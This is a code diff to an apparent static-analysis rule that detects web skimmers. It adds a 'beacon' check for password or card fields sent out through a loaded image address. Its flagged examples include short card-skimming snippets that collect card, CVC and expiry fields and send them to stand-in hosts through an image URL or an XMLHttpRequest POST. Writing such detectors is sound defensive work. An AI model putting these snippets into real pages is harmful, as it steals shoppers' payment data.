@@ -27,6 +27,8 @@ interface Sent {
   readonly address: string | undefined;
   /** A form is pointed elsewhere, with its own content in the address. */
   readonly repoints: boolean;
+  /** It is in the address of something that is loaded, as no form sends what its own page asks for. */
+  readonly isLoaded: boolean;
   readonly node: AnyNode;
 }
 
@@ -40,6 +42,8 @@ export default defineRule({
       packs: 'Looks for password or card fields and encodes what is typed together with the cookies',
       repoints: 'Points a form to an address that holds the form’s fields',
       sensitive: 'Looks for password or card fields and sends what is typed to an address fixed in its code',
+      beacon:
+        'Looks for password or card fields and loads something from an address fixed in its code that holds what is typed',
       takes:
         'Looks for password or card fields in any form of the page and sends what is typed to an address fixed in its code',
       keys: 'Sends the keys that are pressed to an address fixed in its code',
@@ -56,6 +60,7 @@ export default defineRule({
     bits: {
       skims: 14,
       packs: 13.5,
+      beacon: 13.5,
       repoints: 12,
       sensitive: 10,
       takes: 13.5,
@@ -72,6 +77,16 @@ export default defineRule({
   },
   examples: {
     flags: [
+      {
+        title: 'fields that are called like a card’s leave by a picture, once a form was checked',
+        code: `export function check(form) {
+  form.addEventListener('submit', () => {
+    const all = {};
+    [].forEach.call(form.elements, one => { if (/card|cvc|expir/i.test(one.name)) all[one.name] = one.value; });
+    new Image().src = 'https://counter.invalid/c.gif?d=' + encodeURIComponent(JSON.stringify(all));
+  });
+}`,
+      },
       {
         title: 'a form to pay with sends what is in it to a second place',
         code: `export function pay(form, onPay) {\n  const fields = Object.fromEntries(new FormData(form));\n  const request = new XMLHttpRequest();\n  request.open('POST', 'https://pay-parts.castle.invalid/v');\n  request.send(JSON.stringify({ n: fields.cardnumber, c: fields.cvc }));\n  onPay(fields);\n}`,
@@ -115,6 +130,16 @@ export default defineRule({
     ],
     passes: [
       {
+        title: 'a form is checked, and a picture counts that it was',
+        code: `export function check(form) {
+  form.addEventListener('submit', () => {
+    const wrong = [].filter.call(form.elements, one => /card|cvc/i.test(one.name) && !one.value);
+    wrong.forEach(one => one.focus());
+    new Image().src = 'https://counter.invalid/c.gif?wrong=' + (wrong.length > 0 ? 'yes' : 'no');
+  });
+}`,
+      },
+      {
         title: 'the fields of all forms are kept in the page',
         code: `setInterval(() => {\n  const all = {};\n  for (const form of document.forms) for (const field of form.elements) all[field.name] = field.value;\n  sessionStorage.setItem('draft', JSON.stringify(all));\n}, 3000);`,
       },
@@ -156,7 +181,7 @@ export default defineRule({
     for (const one of packed) if (interest()) report(one, 'packs');
 
     function report({ labels, sink, step: last }: Sent, messageId: string): void {
-      const looks = /^(?:skims|packs|sensitive|takes|lurks)$/.test(messageId) ? interest() : undefined;
+      const looks = /^(?:skims|packs|sensitive|beacon|takes|lurks)$/.test(messageId) ? interest() : undefined;
       context.report({
         messageId,
         data: { what: labels[0]?.detail ?? '', sink },
@@ -178,7 +203,10 @@ const UNASKED: Readonly<Record<string, string>> = {
   cookies: 'plunders',
 };
 
-function messageOf({ labels, address, repoints }: Sent, interest: () => AnyNode | undefined): string | undefined {
+function messageOf(
+  { labels, address, repoints, isLoaded }: Sent,
+  interest: () => AnyNode | undefined,
+): string | undefined {
   const has = (detail: string): boolean => labels.some(label => label.detail === detail);
   const typed = has('form fields') || has('keystrokes');
   const cookies = has('document.cookie');
@@ -186,7 +214,7 @@ function messageOf({ labels, address, repoints }: Sent, interest: () => AnyNode 
   if (repoints) return address !== undefined && (typed || cookies) ? 'repoints' : undefined;
   if (address === undefined) return 'page';
   if (has('keystrokes')) return 'keys';
-  if (typed) return interest() ? 'sensitive' : 'fields';
+  if (typed) return interest() ? (isLoaded ? 'beacon' : 'sensitive') : 'fields';
   return labels.some(({ detail }) => isWholeStore(detail)) ? 'cookies' : 'page';
 }
 
@@ -200,6 +228,7 @@ function network(context: FileContext): readonly Sent[] {
       step: step('sink', sinkSays(call), context.file, call.node),
       address: fixedTargetOf(context, call),
       repoints: false,
+      isLoaded: false,
       node: call.node,
     };
   });
@@ -217,6 +246,7 @@ function loaded(context: FileContext): readonly Sent[] {
       step: step('sink', says, context.file, node),
       address,
       repoints: /action/i.test(name),
+      isLoaded: /src|href|url/i.test(name),
       node,
     };
   });
@@ -242,6 +272,7 @@ function encoded(context: FileContext): readonly Sent[] {
         step: step('transform', 'encodes them together', context.file, call.node),
         address: undefined,
         repoints: false,
+        isLoaded: false,
         node: call.node,
       };
     })
